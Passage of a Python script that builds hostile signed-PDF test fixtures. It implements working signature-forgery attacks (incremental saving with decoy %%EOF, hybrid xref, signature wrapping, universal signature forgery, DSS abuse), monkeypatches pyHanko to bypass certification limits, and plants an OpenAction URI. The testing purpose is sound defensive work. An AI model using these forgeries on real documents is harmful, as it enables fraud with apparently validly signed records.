#!/usr/bin/env python3
"""Makes the hostile and the signing-service-style signed guides for the signature tests.

    python3 scripts/make-attack-fixtures.py [--mus target/release/mus] [OUT_DIR]
                                            (default OUT_DIR: tests/fixtures/attacks)

Every file starts from a freshly made and freshly signed guide (the leader signs with an
RSA key, `CN=Łukasz Øster-Ågård`; the manager with an ECDSA P-256 key, `CN=Bodil
Kjærgård`; both certificates from one test CA made here with openssl). The hostile files
are then changed the way the published attacks on PDF signatures change them:

  * Incremental Saving Attack (ISA), Signature Wrapping Attack (SWA) and Universal
    Signature Forgery (USF): Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk,
    "1 Trillion Dollar Refund: How To Spoof PDF Signatures", CCS 2019;
  * the shadow attacks hide, replace and hide-and-replace: Mainka, Mladenov, Rohlmann,
    "Shadow Attacks: Hiding and Replacing Content in Signed PDFs", NDSS 2021;
  * the cases issue 9 found in mus itself (hybrid /XRefStm, dangling references, /DSS
    abuse, a third field's appearance, /Info, the two-person rule, a reused guide id).

Those changes are written by a small raw incremental-update writer (`Update` below):
objects appended after the last %%EOF, then a classic xref table, an xref stream or a
hybrid table with /XRefStm, a trailer, startxref and %%EOF, with knobs to leave parts
out or plant decoys. Objects are built with pikepdf on an in-memory copy (never saved)
and serialised with `unparse`, so the update holds exactly the objects named.

The service-style files are honest: the signatures a signing service adds (a seal in a
new field, signatures in fields of their own, a certification signature first). The
certification cases certify with each DocMDP level (P=1, 2, 3) and then sign both fields;
pyHanko refuses to sign after P=1 ("Author signature forbids all changes"), so for that
file its check is bypassed, as a careless or hostile signing tool would.

`--step NAME` makes one group of cases only (e.g. `--step docmdp`) with a fresh test CA,
written as the file `--ca` names (default `<step>-ca.pem`) and named as those cases'
`trust_file`; the other cases in OUT_DIR and their ca.pem are left as they are.

The private keys live in a temp dir and are deleted; only the CA certificate is kept
(`ca.pem`), so the committed files and ca.pem belong together. Regenerating changes every
byte (new keys, new signing times); the tests assert what the files say. `expected.json`
and `README.md` in OUT_DIR describe every file; this script writes expected.json too.

Needs openssl, qpdf, pikepdf and pyHanko with its CLI (`pip install pyhanko pyhanko-cli
pikepdf`).
"""

import argparse
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pikepdf

ROOT = Path(__file__).resolve().parent.parent
LEADER_FIELD = "underskrift.leder.underskrift"
# The guide id in a packet: an attribute (mus:guideId="…") since 2026-11-29, an element before.
GUIDE_ID = r'mus:guideId(?:>|=")([^<"]+)'
MANAGER_FIELD = "underskrift.leders-leder.underskrift"
LEADER = "Łukasz Øster-Ågård"
MANAGER = "Bodil Kjærgård"
GUIDE_ARGS = ["--role", "leder-af-medarbejdere", "--focus", "saet-retning", "--unit", "Dagtilbud Nord",
              "--date", "2027-01-15", "--manager", MANAGER]

# What the attacker draws on page 1: a red box with white text, in a standard font given
# inline in the page resources (WinAnsi: æ is 0xE6).
FONT = "/FMallory"
MALICIOUS = (b"q 0.8 0 0 rg 56 560 484 90 re f BT " + FONT.encode() + b" 30 Tf 1 1 1 rg 72 592 Td "
             b"(Lederen fratr\xe6der 31.01.2027) Tj ET Q\n")
RED_BOX = b"\nq 0.8 0 0 rg 56 560 484 90 re f Q\n"
WHITE_OVER = b"q 1 1 1 rg 50 550 496 110 re f Q\n"


def helvetica():
    return pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1,
                              BaseFont=pikepdf.Name.Helvetica, Encoding=pikepdf.Name.WinAnsiEncoding)


def run(cmd, **kw):
    r = subprocess.run([str(c) for c in cmd], capture_output=True, **kw)
    if r.returncode != 0:
        sys.exit(f"make-attack-fixtures: {' '.join(map(str, cmd))} failed:\n{r.stdout.decode(errors='replace')}"
                 f"{r.stderr.decode(errors='replace')}")
    return r.stdout


# --- The raw incremental-update writer ------------------------------------------------

def last_startxref(data):
    return int(re.findall(rb"startxref\s+(\d+)", data)[-1])


def body_of(obj):
    """The text between `N G obj` and `endobj` for a pikepdf object (streams keep their
    raw, still-encoded data)."""
    if isinstance(obj, pikepdf.Stream):
        raw = obj.read_raw_bytes()
        d = pikepdf.Dictionary({k: v for k, v in obj.stream_dict.items()})
        d.Length = len(raw)
        return d.unparse() + b"\nstream\n" + raw + b"\nendstream"
    return obj.unparse(resolved=True)


def stream_body(data, **entries):
    head = b" ".join(b"/%s %s" % (k.encode(), v) for k, v in entries.items())
    return b"<< %s /Length %d >>\nstream\n" % (head, len(data)) + data + b"\nendstream"


class Update:
    """One incremental update appended to `data`.

    `objects` maps object numbers to their body (bytes between `N 0 obj` and `endobj`).
    `style` is "table" (classic xref), "stream" (xref stream) or "hybrid" (a classic table
    listing `table_only` objects whose trailer's /XRefStm lists the others)."""

    def __init__(self, data):
        self.data = data
        with pikepdf.open(io.BytesIO(data)) as pdf:
            t = pdf.trailer
            self.root = t.Root.objgen[0]
            self.info = t.Info.objgen[0] if "/Info" in t else None
            self.id = t.ID.unparse() if "/ID" in t else None
            self.size = int(t.Size)
        self.prev = last_startxref(data)
        self.objects = {}
        self.free = []

    def add(self, num, body):
        self.objects[num] = body
        return self

    def add_pdf_objects(self, *objs):
        for o in objs:
            self.objects[o.objgen[0]] = body_of(o)
        return self

    def write(self, style="stream", *, decoy_startxref=False, eof=True, xref=True, trailer=True,
              table_only=(), root=None, info=None, size=None, prev=True):
        out = bytearray(self.data)
        if not out.endswith(b"\n"):
            out += b"\n"
        offsets = {}
        for num in sorted(self.objects):
            offsets[num] = len(out)
            out += b"%d 0 obj\n" % num + self.objects[num] + b"\nendobj\n"
        if not xref and not trailer:
            return bytes(out)  # body only
        size = size or max([self.size, *[n + 1 for n in offsets], *[n + 1 for n in self.free]])
        entries = {n: (1, off, 0) for n, off in offsets.items()}
        entries.update({n: (0, 0, 1) for n in self.free})
        trailer_entries = {"Size": None, "Root": b"%d 0 R" % (root or self.root)}
        if (info or self.info) is not None:
            trailer_entries["Info"] = b"%d 0 R" % (info or self.info)
        if self.id:
            trailer_entries["ID"] = self.id
        if prev:
            trailer_entries["Prev"] = b"%d" % self.prev

        def dict_text(extra, size_value):
            e = dict(trailer_entries, Size=b"%d" % size_value, **extra)
            return b"<< " + b" ".join(b"/%s %s" % (k.encode(), v) for k, v in e.items()) + b" >>"

        if not xref:  # a trailer without an xref section
            at = len(out)
            out += b"trailer\n" + dict_text({}, size) + b"\n"
        elif style == "table":
            at = len(out)
            out += classic_table(entries) + b"trailer\n" + dict_text({}, size) + b"\n"
        elif style == "stream":
            num = size
            at = len(out)
            entries[num] = (1, at, 0)
            out += b"%d 0 obj\n" % num + xref_stream(entries, dict_text, num + 1) + b"\nendobj\n"
        elif style == "hybrid":
            in_stream = {n: e for n, e in entries.items() if n not in table_only}
            in_table = {n: e for n, e in entries.items() if n in table_only}
            num = size
            stm_at = len(out)
            # The /XRefStm stream of a hybrid file carries no trailer keys of its own that
            # matter; PDF 1.5 readers merge its entries after the table's.
            out += b"%d 0 obj\n" % num + xref_stream(in_stream, lambda extra, s: b"<< /Type /XRef /Size %d" % s
                                                     + b" >>", num + 1) + b"\nendobj\n"
            at = len(out)
            out += classic_table(in_table) + b"trailer\n" + dict_text({"XRefStm": b"%d" % stm_at}, num + 1) + b"\n"
        else:
            raise ValueError(style)
        if decoy_startxref:
            # The decoy names the previous section and is closed by %%EOF; the real
            # startxref follows with no %%EOF of its own, so a reader that looks for the
            # last %%EOF and one that looks for the last startxref read different files.
            out += b"startxref\n%d\n%%%%EOF\n" % self.prev + b"startxref\n%d\n" % at
        else:
            out += b"startxref\n%d\n" % at + (b"%%EOF\n" if eof else b"")
        return bytes(out)


def classic_table(entries):
    out = b"xref\n"
    nums = sorted(entries)
    i = 0
    while i < len(nums):
        j = i
        while j + 1 < len(nums) and nums[j + 1] == nums[j] + 1:
            j += 1
        out += b"%d %d\n" % (nums[i], j - i + 1)
        for n in nums[i:j + 1]:
            kind, off, gen = entries[n]
            out += b"%010d %05d %s\r\n" % (off, gen, b"n" if kind == 1 else b"f")
        i = j + 1
    return out


def xref_stream(entries, dict_text, size):
    """An uncompressed xref stream object body (W [1 4 2]) listing `entries`."""
    nums = sorted(entries)
    index, data = [], bytearray()
    i = 0
    while i < len(nums):
        j = i
        while j + 1 < len(nums) and nums[j + 1] == nums[j] + 1:
            j += 1
        index += [nums[i], j - i + 1]
        i = j + 1
    for n in nums:
        kind, a, b = entries[n]
        data += bytes([kind]) + a.to_bytes(4, "big") + b.to_bytes(2, "big")
    d = dict_text({"Type": b"/XRef", "W": b"[1 4 2]", "Index": b"[" + b" ".join(b"%d" % x for x in index) + b"]",
                   "Length": b"%d" % len(data)}, size)
    # dict_text may not know Type/W/Index (the hybrid case): add them.
    if b"/W " not in d:
        d = d[:-2] + b"/W [1 4 2] /Index [" + b" ".join(b"%d" % x for x in index) + b"] /Length %d >>" % len(data)
    return d + b"\nstream\n" + bytes(data) + b"\nendstream"


# --- Reading the guide ----------------------------------------------------------------

def open_pdf(data):
    return pikepdf.open(io.BytesIO(data))


def field(pdf, name):
    """The terminal field (also the widget, as mus writes them) with this full name."""
    def walk(f, prefix):
        t = str(f.get("/T", ""))
        full = f"{prefix}.{t}" if prefix and t else (t or prefix)
        if full == name:
            return f
        for k in f.get("/Kids", []):
            r = walk(k, full)
            if r is not None:
                return r
        return None
    for f in pdf.Root.AcroForm.Fields:
        r = walk(f, "")
        if r is not None:
            return r
    raise KeyError(name)


def page1(pdf):
    return pdf.pages[0].obj


def content_ref(page):
    c = page.get("/Contents")
    return c[0] if isinstance(c, pikepdf.Array) else c


def with_font(pdf, page):
    """Page 1's resources with the attacker's Helvetica added; returns the object to
    write (the resources if indirect, else the page)."""
    res = page.Resources
    fonts = res.get("/Font")
    if fonts is None:
        res.Font = pikepdf.Dictionary()
        fonts = res.Font
    fonts[FONT] = helvetica()
    if fonts.is_indirect:
        return [fonts]
    return [res] if res.is_indirect else [page]


def changed_page1(data):
    """Page 1 drawn over with the attacker's text: (pdf, objects to write)."""
    pdf = open_pdf(data)
    page = page1(pdf)
    mal = pdf.make_indirect(pikepdf.Stream(pdf, MALICIOUS))
    page.Contents = pikepdf.Array([content_ref(page), mal])
    objs = [page, mal] + [o for o in with_font(pdf, page) if o.objgen != page.objgen]
    return pdf, objs


def rewritten_content(data, extra=RED_BOX):
    """Page 1's own content stream (same object number) with a red box drawn on top."""
    pdf = open_pdf(data)
    c = content_ref(page1(pdf))
    body = c.read_bytes() + extra
    return c.objgen[0], stream_body(body)


def der_only(blob):
    """The DER SEQUENCE at the start of a /Contents value, without the zero padding."""
    assert blob[0] == 0x30
    n = blob[1]
    if n < 0x80:
        return blob[:2 + n]
    k = n & 0x7F
    return blob[:2 + k + int.from_bytes(blob[2:2 + k], "big")]


def sig_values(data, name):
    """(CMS without padding, /ByteRange, signature dictionary's object number)."""
    with open_pdf(data) as pdf:
        v = field(pdf, name).V
        return der_only(bytes(v.Contents)), [int(x) for x in v.ByteRange], v.objgen[0]


# --- PKI and signing ------------------------------------------------------------------

LEAF_EXT = """basicConstraints = critical, CA:false
keyUsage = critical, digitalSignature, nonRepudiation
subjectKeyIdentifier = hash
authorityKeyIdentifier = keyid
"""


class Pki:
    def __init__(self, work):
        self.w = work
        (work / "leaf.ext").write_text(LEAF_EXT)
        run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "3650", "-utf8",
             "-subj", "/O=MUS Test Kommune/CN=MUS Test CA", "-keyout", work / "ca.key", "-out", work / "ca.pem",
             "-addext", "basicConstraints=critical,CA:true", "-addext", "keyUsage=critical,keyCertSign,cRLSign"])

    def leaf(self, name, subject, key_args=("-newkey", "rsa:2048"), key=None):
        """A certificate from the test CA; `key` reuses another leaf's private key."""
        w = self.w
        if key:
            shutil.copy(w / f"{key}.key", w / f"{name}.key")
            run(["openssl", "req", "-new", "-utf8", "-subj", subject, "-key", w / f"{name}.key",
                 "-out", w / f"{name}.csr"])
        else:
            run(["openssl", "req", "-new", "-nodes", "-utf8", "-subj", subject, "-keyout", w / f"{name}.key",
                 "-out", w / f"{name}.csr", *key_args])
        run(["openssl", "x509", "-req", "-in", w / f"{name}.csr", "-CA", w / "ca.pem", "-CAkey", w / "ca.key",
             "-CAcreateserial", "-days", "3650", "-sha256", "-extfile", w / "leaf.ext", "-out", w / f"{name}.pem"])


class Maker:
    def __init__(self, mus, work, out):
        self.mus, self.w, self.out = mus, work, out
        self.expected = {}

    def guide(self, name=LEADER):
        path = self.w / f"guide-{len(os.listdir(self.w))}.pdf"
        run([self.mus, "guide", *GUIDE_ARGS, "--name", name, "-o", path])
        return path.read_bytes()

    def sign(self, data, field_name, who, *extra):
        src = self.w / "in.pdf"
        dst = self.w / "out.pdf"
        src.write_bytes(data)
        if dst.exists():
            dst.unlink()
        run(["pyhanko", "sign", "addsig", "--field", field_name, *extra, "pemder", "--key", self.w / f"{who}.key",
             "--cert", self.w / f"{who}.pem", "--chain", self.w / "ca.pem", "--no-pass", src, dst])
        return dst.read_bytes()

    def both(self, data, leader="leader", manager="manager", api=False):
        """The leader signs adbe.pkcs7.detached, the manager PAdES, as make-signed-fixtures.sh.
        `api`: through pyHanko's API, whatever a certification forbids (see `sign_api`)."""
        if api:
            data = self.sign_api(data, LEADER_FIELD, leader, ignore_certification=True)
            return self.sign_api(data, MANAGER_FIELD, manager, pades=True, ignore_certification=True)
        data = self.sign(data, LEADER_FIELD, leader)
        return self.sign(data, MANAGER_FIELD, manager, "--use-pades")

    def sign_api(self, data, field_name, who, *, pades=False, certify=None, ignore_certification=False):
        """As `sign`, through pyHanko's API: `certify` is a DocMDP level (1, 2 or 3; the CLI's
        --certify only makes 2); `ignore_certification` signs even where an earlier
        certification forbids it (pyHanko's signer refuses to; its validator still judges)."""
        from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
        from pyhanko.sign import fields, signers
        from pyhanko.sign.signers.pdf_signer import PdfSigner

        signer = signers.SimpleSigner.load(str(self.w / f"{who}.key"), str(self.w / f"{who}.pem"),
                                           ca_chain_files=(str(self.w / "ca.pem"),))
        meta = signers.PdfSignatureMetadata(
            field_name=field_name, certify=certify is not None,
            docmdp_permissions=fields.MDPPerm(certify or 2),
            subfilter=fields.SigSeedSubFilter.PADES if pades else fields.SigSeedSubFilter.ADOBE_PKCS7_DETACHED)
        enforce = PdfSigner._enforce_certification_constraints
        if ignore_certification:
            PdfSigner._enforce_certification_constraints = lambda self, reader: None
        try:
            out = signers.sign_pdf(IncrementalPdfFileWriter(io.BytesIO(data)), meta, signer=signer)
        finally:
            PdfSigner._enforce_certification_constraints = enforce
        return out.getvalue()

    def save(self, name, data, mus, why, *, trust=False, allow_unsigned=False, reason=(), pyhanko="",
             pyhanko_trustworthy=True, pyhanko_fooled=False, made="", archive_before=()):
        (self.out / name).write_bytes(data)
        os.chmod(self.out / name, 0o644)
        entry = {"mus": mus, "trust": trust, "allow_unsigned": allow_unsigned, "reason_contains": list(reason),
                 "pyhanko": pyhanko, "pyhanko_trustworthy": pyhanko_trustworthy and not pyhanko_fooled,
                 "pyhanko_fooled": pyhanko_fooled, "made": made, "note": why}
        if archive_before:
            entry["archive_before"] = list(archive_before)
        self.expected[name] = entry
        print(f"make-attack-fixtures: {name}")


# --- The files ------------------------------------------------------------------------

def isa(m, signed):
    pdf, objs = changed_page1(signed)
    u = Update(signed).add_pdf_objects(*objs)
    pdf.close()
    fooled = ("pyHanko reads the file only up to the last %%EOF, so it sees no change after the manager's "
              "signature (EXTENDED_WITH_NONE): it is fooled, poppler and qpdf show the new page 1.")
    m.save("isa-decoy-eof.pdf", u.write(decoy_startxref=True), "refused",
           "An update after both signatures changes page 1 (a red box with text); it ends with a decoy "
           "`startxref <previous> %%EOF` followed by the real `startxref <new>` (no %%EOF after it): readers "
           "that look for the last %%EOF and readers that look for the last startxref read different files. "
           + fooled, reason=["ambiguous"], made="ISA (CCS 2019) with a decoy startxref/%%EOF; xref stream",
           pyhanko_fooled=True)
    m.save("isa-decoy-eof-table.pdf", u.write("table", decoy_startxref=True), "refused",
           "As isa-decoy-eof.pdf, but the update's xref section is a classic table (after xref streams). " + fooled,
           reason=["ambiguous"], made="ISA with a decoy; classic table", pyhanko_fooled=True)
    m.save("isa-no-eof.pdf", u.write(eof=False), "refused",
           "As isa-decoy-eof.pdf without any %%EOF after the update (and no decoy): the file ends with "
           "`startxref <new>`. " + fooled, reason=["ambiguous"], made="ISA without %%EOF",
           pyhanko_fooled=True)
    # The same decoy ending, but the update fills in plan.1.maal.
    with open_pdf(signed) as form:
        goal = field(form, "plan.1.maal")
        goal.V = pikepdf.String("Lederen fratræder")
        filled = Update(signed).add_pdf_objects(goal).write(decoy_startxref=True)
    m.save("isa-decoy-fill.pdf", filled, "refused",
           "An update after both signatures fills in plan.1.maal, ending with the decoy startxref/%%EOF pair. "
           "pyHanko sees no change (it stops at the last %%EOF); even without the decoy it allows form filling "
           "after approval signatures, which mus does not.", reason=["ambiguous"],
           made="ISA with a decoy, form filling", pyhanko_fooled=True)
    m.save("isa-body-only.pdf", u.write(xref=False, trailer=False), "refused",
           "Page 1's new objects appended after the last %%EOF with no xref section, trailer or startxref: "
           "readers that rebuild a broken file from its objects show the change (ISA variant without xref/trailer).",
           reason=["ambiguous"], made="ISA: body only", pyhanko_fooled=True)
    m.save("isa-trailer-no-xref.pdf", u.write(xref=False), "refused",
           "Page 1's new objects and a trailer (with /Prev) appended, but no xref section; startxref points at the "
           "trailer (ISA variant: trailer without xref).", reason=["ambiguous"], made="ISA: trailer, no xref")


def hybrid(m, signed):
    pdf, objs = changed_page1(signed)
    page = page1(pdf)
    old_pages = pdf.Root.Pages
    new_pages = pdf.make_indirect(pikepdf.Dictionary({k: v for k, v in old_pages.items()}))
    kids = [k for k in old_pages.Kids]
    new_page = pdf.make_indirect(pikepdf.Dictionary({k: v for k, v in page.items()}))
    new_page.Parent = new_pages
    kids[0] = new_page
    new_pages.Kids = pikepdf.Array(kids)
    pdf.Root.Pages = new_pages
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://mallory.example/"))
    u = Update(signed)
    # Written: the new catalog, pages tree, page and content (page 1 itself stays as
    # signed). The classic table lists only a harmless /Info; the catalog only in /XRefStm.
    u.add_pdf_objects(pdf.Root, new_pages, new_page, *[o for o in objs if o.objgen != page.objgen])
    info = pdf.trailer.Info
    info.ModDate = pikepdf.String("D:20270116120000Z")
    u.add_pdf_objects(info)
    data = u.write("hybrid", table_only=[info.objgen[0]])
    pdf.close()
    m.save("hybrid-xrefstm-catalog.pdf", data, "refused",
           "A hybrid-reference update: its classic xref table lists only /Info; its /XRefStm redefines the catalog "
           "(a new /Pages whose page 1 is drawn over, an /OpenAction URI). qpdf, poppler and pyHanko follow the "
           "/XRefStm; lopdf 0.44 prefers the previous section. pyHanko 0.38 refuses hybrid files in strict mode "
           "(INVALID); with --no-strict-syntax it follows the /XRefStm and judges ILLEGAL_MODIFICATIONS.",
           reason=["changed after signing"], made="hybrid table + /XRefStm")


def dangling(m, unsigned):
    pdf = open_pdf(unsigned)
    page = page1(pdf)
    size = int(pdf.trailer.Size)
    num = max(900, size)
    objs = with_font(pdf, page)
    page.Contents = pikepdf.Array([content_ref(page)])
    # pikepdf cannot refer to an object that does not exist: write the reference by hand.
    body = re.sub(rb"/Contents \[ (\d+ \d+ R) \]", lambda x: b"/Contents [ " + x.group(1) + b" %d 0 R ]" % num,
                  body_of(page))
    u = Update(unsigned).add(page.objgen[0], body)
    u.add_pdf_objects(*[o for o in objs if o.objgen != page.objgen])
    planted = u.write(size=num + 1)
    pdf.close()
    signed = m.both(planted)
    data = Update(signed).add(num, stream_body(MALICIOUS)).write()
    m.save("dangling-ref.pdf", data, "refused",
           f"Before signing page 1 got `/Contents [<orig> {num} 0 R]` with object {num} absent (a null that "
           f"draws nothing); both signed; then object {num} (red box, text) is added in an update. FIELD-NOTES "
           "records pyHanko as fooled by this class; on this construction pyHanko 0.38 refuses to read the file "
           f"in strict mode (object {num} not found) and with --no-strict-syntax judges ILLEGAL_MODIFICATIONS. "
           "Not used as the judge here all the same.",
           reason=["changed after signing"], made="dangling reference filled after signing", pyhanko_fooled=True)


def dss(m, unsigned):
    pdf = open_pdf(unsigned)
    c = content_ref(page1(pdf))
    d = pdf.make_indirect(pikepdf.Dictionary(Certs=pikepdf.Array([c])))
    pdf.Root.DSS = d
    planted = Update(unsigned).add_pdf_objects(pdf.Root, d).write()
    pdf.close()
    signed = m.both(planted)
    num, body = rewritten_content(signed)
    with open_pdf(signed) as pdf:
        d = pdf.Root.DSS
        u = Update(signed).add(num, body).add_pdf_objects(d)
        data = u.write()
    m.save("dss-abuse.pdf", data, "refused",
           "Before signing the catalog got a /DSS whose /Certs array references page 1's content stream; both "
           "signed; then that stream is rewritten (a red box drawn) together with the DSS, as if adding validation "
           "data. The DSS may only hold certificates, OCSP responses and CRLs.",
           reason=["changed after signing"], made="DSS path abuse")


def third_field(m, signed):
    pdf = open_pdf(signed)
    page = page1(pdf)
    ap = pdf.make_indirect(pikepdf.Stream(pdf, b"q 0.9 0.9 1 rg 0 0 300 60 re f BT /Helv 14 Tf 0 0 0.6 rg 8 24 Td "
                                               b"(Godkendt af Mallory Madsen) Tj ET Q\n"))
    ap.Type, ap.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
    ap.BBox = pikepdf.Array([0, 0, 300, 60])
    ap.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(Helv=helvetica()))
    f = pdf.make_indirect(pikepdf.Dictionary(
        FT=pikepdf.Name.Sig, T=pikepdf.String("underskrift.tredje"), Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Widget, Rect=pikepdf.Array([250, 600, 550, 660]), F=4, P=page,
        AP=pikepdf.Dictionary(N=ap)))
    pdf.Root.AcroForm.Fields.append(f)
    page.Annots.append(f)
    objs = [f, ap, page]
    fields = pdf.Root.AcroForm.get("/Fields")
    objs.append(fields if fields.is_indirect else (pdf.Root.AcroForm if pdf.Root.AcroForm.is_indirect else pdf.Root))
    if page.Annots.is_indirect:
        objs.append(page.Annots)
    data = Update(signed).add_pdf_objects(*objs).write()
    pdf.close()
    m.save("third-field-appearance.pdf", data, "refused",
           "After both signatures, a third, unsigned signature field is added whose widget has a visible "
           "appearance on page 1 ('Godkendt af Mallory Madsen'): no signature was added, yet the page shows more.",
           reason=["changed after signing"], made="new unsigned field with appearance")


def info(m, signed):
    pdf = open_pdf(signed)
    new = pdf.make_indirect(pikepdf.Dictionary({k: v for k, v in pdf.trailer.Info.items()}))
    new.Title = pikepdf.String("Samtaleguide – Mallory Madsen")
    u = Update(signed).add_pdf_objects(new)
    data = u.write(info=new.objgen[0])
    pdf.close()
    m.save("info-mallory.pdf", data, "refused",
           "After both signatures the trailer's /Info points at a new dictionary titled 'Samtaleguide – Mallory "
           "Madsen': only /ModDate and /Producer may change. pyHanko allows any /Info change "
           "(ACCEPTABLE_MODIFICATIONS); mus does not.", reason=["changed after signing", "Info"],
           made="trailer /Info replaced", pyhanko_trustworthy=False)


def usf(m, unsigned, signed):
    """Universal Signature Forgery: a guide never signed whose fields carry signature
    dictionaries with the signature value or its byte range missing or null (the CMS is
    copied from another signed guide, so the signer's certificate is there to show)."""
    leader_cms, leader_br, _ = sig_values(signed, LEADER_FIELD)
    manager_cms, manager_br, _ = sig_values(signed, MANAGER_FIELD)
    variants = {
        "usf-no-contents": lambda cms, br: b"/ByteRange [%d %d %d %d]" % tuple(br),
        "usf-contents-null": lambda cms, br: b"/Contents null /ByteRange [%d %d %d %d]" % tuple(br),
        "usf-contents-empty": lambda cms, br: b"/Contents <> /ByteRange [%d %d %d %d]" % tuple(br),
        "usf-no-byterange": lambda cms, br: b"/Contents <" + cms.hex().encode() + b">",
        "usf-byterange-null": lambda cms, br: b"/Contents <" + cms.hex().encode() + b"> /ByteRange null",
        "usf-byterange-zero": lambda cms, br: b"/Contents <" + cms.hex().encode() + b"> /ByteRange [0 0 0 0]",
    }
    for name, entries in variants.items():
        pdf = open_pdf(unsigned)
        u = Update(unsigned)
        for fname, cms, br, sub, who in ((LEADER_FIELD, leader_cms, leader_br, b"/adbe.pkcs7.detached", LEADER),
                                         (MANAGER_FIELD, manager_cms, manager_br, b"/ETSI.CAdES.detached", MANAGER)):
            f = field(pdf, fname)
            sig = pdf.make_indirect(pikepdf.Dictionary())
            f.V = sig
            u.add_pdf_objects(f)
            u.add(sig.objgen[0], b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter " + sub + b" /Name "
                  + pikepdf.String(who).unparse() + b" /M (D:20270115120000Z) " + entries(cms, br) + b" >>")
        data = u.write()
        pdf.close()
        m.save(f"{name}.pdf", data, "refused",
               f"Universal Signature Forgery ({name[4:]}): an unsigned guide whose two fields get signature "
               "dictionaries with a real CMS copied from another signed guide, but the signature value or the byte "
               "range is missing, null, empty or zero — nothing is signed.",
               reason=["signature"], made="USF (CCS 2019)")


def swa(m, signed):
    """Signature Wrapping: the manager's second signed range (everything after its
    /Contents hole) is moved to the end of the file; the gap left at its old place holds
    the attacker's objects and a full xref stream exactly at the old startxref offset, so
    the moved copy's `startxref` now points at the attacker's xref. A new signature
    dictionary for the manager says /ByteRange [0 b c* d]: the hashed bytes are the signed
    bytes, the range still ends at the end of the file."""
    cms, br, sig_num = sig_values(signed, MANAGER_FIELD)
    a, b, c, d = br
    assert c + d == len(signed)
    x = last_startxref(signed)
    p1, p2 = signed[:c], signed[c:]
    xref = {}
    (m.w / "swa.pdf").write_bytes(signed)
    for line in run(["qpdf", "--show-xref", m.w / "swa.pdf"]).decode().splitlines():
        mm = re.match(r"(\d+)/(\d+): uncompressed; offset = (\d+)", line)
        if mm:
            xref[int(mm[1])] = (1, int(mm[3]), int(mm[2]))
        mm = re.match(r"(\d+)/\d+: compressed; stream = (\d+), index = (\d+)", line)
        if mm:
            xref[int(mm[1])] = (2, int(mm[2]), int(mm[3]))
    pdf, objs = changed_page1(signed)
    sig = pdf.get_object((sig_num, 0))
    fresh = {o.objgen[0]: body_of(o) for o in objs}
    size = max([*xref, *fresh, int(pdf.trailer.Size) - 1]) + 2
    xnum = size - 1
    root, info_num, ids = pdf.trailer.Root.objgen[0], pdf.trailer.Info.objgen[0], pdf.trailer.ID.unparse()
    pdf.close()

    def layout(cstar):
        body = {**fresh, sig_num: b"<< " + b" ".join(
            k.encode() + b" " + (b"[0 %d %d %d]" % (b, cstar, d) if k == "/ByteRange" else
                                 (b"<" + cms.hex().encode() + b">" if k == "/Contents" else v.unparse()))
            for k, v in sig.items()) + b" >>"}
        gap = bytearray(b"\n%" + b"-" * (x - c - 3) + b"\n")  # filler up to the old startxref offset
        assert len(gap) == x - c
        entries = {}
        for n, e in xref.items():
            if e[0] == 1 and e[1] >= c:
                entries[n] = (1, e[1] - c + cstar, e[2])
            else:
                entries[n] = e
        later = bytearray()
        # The xref stream at x; objects after it.
        dummy = xref_stream({**entries, **{n: (1, 0, 0) for n in body}, xnum: (1, x, 0)},
                            lambda extra, s: b"<< " + b" ".join(b"/%s %s" % (k.encode(), v) for k, v in extra.items())
                            + b" /Size %d /Root %d 0 R /Info %d 0 R /ID %s >>" % (s, root, info_num, ids), size)
        xobj_len = len(b"%d 0 obj\n" % xnum + dummy + b"\nendobj\n")
        at = x + xobj_len
        for n, bod in body.items():
            entries[n] = (1, at + len(later), 0)
            later += b"%d 0 obj\n" % n + bod + b"\nendobj\n"
        entries[xnum] = (1, x, 0)
        xs = xref_stream(entries, lambda extra, s: b"<< " + b" ".join(b"/%s %s" % (k.encode(), v) for k, v in
                                                                      extra.items())
                         + b" /Size %d /Root %d 0 R /Info %d 0 R /ID %s >>" % (s, root, info_num, ids), size)
        gap += b"%d 0 obj\n" % xnum + xs + b"\nendobj\n" + later
        return bytes(gap)

    # The gap's length does not depend on c* (fixed-width numbers aside): iterate to a fixed point.
    cstar = c + len(layout(c + 10 ** 6))
    for _ in range(5):
        g = layout(cstar)
        if c + len(g) == cstar:
            break
        cstar = c + len(g)
    data = p1 + g + p2
    assert data[cstar:cstar + d] == p2 and cstar + d == len(data)
    m.save("swa-relocate.pdf", data, "refused",
           "Signature Wrapping: the manager's second signed range is moved to the end of the file; in the gap sit "
           "the attacker's objects (page 1 drawn over, a new signature dictionary with /ByteRange [0 b c* d]) and a "
           "full xref stream exactly at the offset the moved range's startxref names. The hashed bytes are the "
           "signed ones and the range ends at the end of the file.",
           reason=["ambiguous"], made="SWA (CCS 2019), relocated second range")


def swa_hole(m, signed):
    """Signature Wrapping into the hole: the manager's /Contents hole (the bytes no
    signature covers) keeps the real CMS but also carries, inside a literal string of an
    extra key, a complete object `N 0 obj` that replaces page 1's content stream (a red box,
    no text). An update with only an xref section and a trailer then points object N at
    that offset: no object is appended after the signatures, and the second signed range
    is untouched."""
    cms, br, _ = sig_values(signed, MANAGER_FIELD)
    a, b, c, d = br
    with open_pdf(signed) as pdf:
        num = content_ref(page1(pdf)).objgen[0]
    prefix = b"<" + cms.hex().encode() + b"> /Mallory ("
    obj = b"\n%d 0 obj\n" % num + stream_body(RED_BOX) + b"\nendobj\n"
    hole = prefix + obj + b")"
    assert len(hole) <= c - b, "the signature hole is too small for the smuggled object"
    hole += b" " * (c - b - len(hole))
    data = signed[:b] + hole + signed[c:]
    at = b + len(prefix) + 1  # the offset of `N 0 obj`
    u = Update(data)  # only for the trailer's values; the update is written by hand
    out = bytearray(data)
    xref_at = len(out)
    out += b"xref\n%d 1\n%010d 00000 n\r\n" % (num, at)
    out += b"trailer\n<< /Size %d /Root %d 0 R /Info %d 0 R /ID %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        u.size, u.root, u.info, u.id, u.prev, xref_at)
